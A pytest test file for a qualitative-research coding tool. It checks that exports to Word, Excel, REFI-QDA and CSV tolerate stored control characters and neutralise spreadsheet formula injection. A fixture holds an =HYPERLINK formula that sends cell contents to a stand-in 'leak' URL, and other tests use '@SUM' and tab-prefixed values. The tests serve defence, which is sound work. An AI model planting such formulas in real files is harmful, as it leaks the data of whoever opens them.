"""Every export writes what a study holds: control characters already stored in a coded passage,
a memo or a name never stop a Word, Excel or REFI-QDA export, and text that a spreadsheet would
run as a formula arrives as text."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import zipfile

import pytest
from lxml import etree

from coder.coding.runs import RunSpec, segments_csv
from coder.store.characters import csv_cell, xml_safe
from tests.core.conftest import code_passage

CONTROLS = "\x01\x08\x0b\x0c\x0e\x1b\x1f\ufffe"
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


@pytest.fixture
def dirty(coded_study):
    """A coded passage whose spaces were control characters before import cleaned them (a study
    stored by an older version), a memo and a site attribute holding such characters, a formula."""
    s = coded_study
    code_passage(s, "a_principal", "Our focus is student talk. Teachers meet in PLCs", "Leadership configuration")
    source = s.sources.find("a_principal")
    text = s.sources.text(source.id)
    at = text.index("Our focus")
    spaces = [i for i in range(at, at + 48) if text[i] == " "]
    chars = list(text)
    for i, ch in zip(spaces, CONTROLS, strict=False):
        chars[i] = ch  # one for one: every stored range stays where it was
    s.conn.execute("UPDATE source_texts SET text = ? WHERE source_id = ?", ("".join(chars), source.id))
    s.memos.write(kind="free", title="Field\x0bnotes", text="Seen\x0cat\x01the site\x1b[31m.", author="tester")
    s.attributes.set_value(scope="source", owner_id=source.id, name="note\x07", value=FORMULA)
    s.codes.describe_code(code_id=s.codes.find("Leadership configuration").id, definition="Who leads\x0b and how")
    return s


def _xml_parts(path) -> list[bytes]:
    with zipfile.ZipFile(path) as archive:
        return [archive.read(n) for n in archive.namelist() if n.endswith((".xml", ".qde", ".rels"))]


def test_every_writer_exports_a_study_holding_control_characters(dirty, tmp_path):
    from docx import Document
    from openpyxl import load_workbook

    from coder.crosssite.pattern_tables import build_table
    from coder.exchange.refi.codebook import export_codebook
    from coder.exchange.refi.project_export import export_project
    from coder.reports.memo import write_memos
    from coder.reports.outline import write_outline
    from coder.reports.pattern import export_table
    from coder.reports.run import write_segments_docx, write_segments_xlsx

    s = dirty
    segments = s.runs.run(RunSpec(codes=[c.id for c in s.codes.all()]))
    assert any("\x0b" in seg.text for seg in segments)
    out = tmp_path / "out"
    out.mkdir()
    write_segments_xlsx(s, segments, out / "run.xlsx", description=[("Codes", FORMULA)])
    write_segments_docx(s, segments, out / "run.docx", description=[("Codes", "a\x0bb")])
    write_memos(s, [m.id for m in s.memos.all()], out / "memos.docx")
    write_outline(s, out / "outline.docx")
    table = build_table(s, cols="codes")
    for kind in ("csv", "xlsx", "docx"):
        export_table(s, table, out / f"table.{kind}", kind)
    export_project(s, out / "study.qdpx")
    export_codebook(s, out / "codebook.qdc")
    for path in out.iterdir():
        if path.suffix in (".docx", ".xlsx", ".qdpx"):
            for part in _xml_parts(path):
                etree.fromstring(part)  # well-formed: no character XML forbids
    etree.parse(str(out / "codebook.qdc"))
    words = " ".join(p.text for p in Document(str(out / "run.docx")).paragraphs)
    assert "Our focus is" in words.replace("\n", " ")
    assert load_workbook(out / "run.xlsx")["Segments"].max_row == len(segments) + 1


def test_excel_cells_hold_formulas_as_text(dirty, tmp_path):
    from coder.reports.run import write_segments_xlsx

    s = dirty
    segments = s.runs.run(RunSpec(codes=[c.id for c in s.codes.all()]))
    write_segments_xlsx(s, segments, tmp_path / "run.xlsx", description=[("Codes", FORMULA)])
    with zipfile.ZipFile(tmp_path / "run.xlsx") as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
        strings = "".join(archive.read(n).decode() for n in archive.namelist() if "sharedStrings" in n)
    assert sheets and not any("<f>" in x or "<f " in x for x in sheets)  # no formula anywhere
    assert "HYPERLINK" in "".join(sheets) + strings  # but the text itself is there, as text


def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(dirty):
    s = dirty
    segments = s.runs.run(RunSpec(codes=[c.id for c in s.codes.all()]))
    segments = [dataclasses.replace(seg, note="@SUM(1+1)") for seg in segments]
    rows = list(csv.reader(io.StringIO(segments_csv(segments, description=[("Codes", FORMULA)]))))
    cells = [c for row in rows for c in row]
    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells
    assert not [c for c in cells if re.match(r"[=+\-@\t\r]", c) and not re.fullmatch(r"[+-]?\d+", c)]
    assert [csv_cell(v) for v in ("-3", "+1.5", "-x", "\tcmd", "plain", 5)] == ["-3", "+1.5", "'-x", "'\tcmd",
                                                                                "plain", 5]


def test_xml_safe_keeps_offsets():
    text = "a\x0bb\x0cc\x01d\x1b"
    assert xml_safe(text) == "a\nb\nc d " and len(xml_safe(text)) == len(text)
    assert xml_safe(None) is None and xml_safe("plain") == "plain"
